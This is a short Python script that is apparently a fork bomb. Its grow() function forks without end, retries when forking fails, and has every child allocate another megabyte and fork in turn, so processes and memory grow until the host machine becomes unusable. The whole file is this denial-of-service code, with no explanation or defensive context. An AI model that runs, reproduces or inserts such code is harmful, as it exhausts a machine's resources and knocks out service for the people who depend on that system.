import os

hold = []


def grow():
    while True:
        try:
            pid = os.fork()
        except OSError:
            continue
        if pid == 0:
            hold.append(bytearray(1 << 20))


if __name__ == "__main__":
    grow()
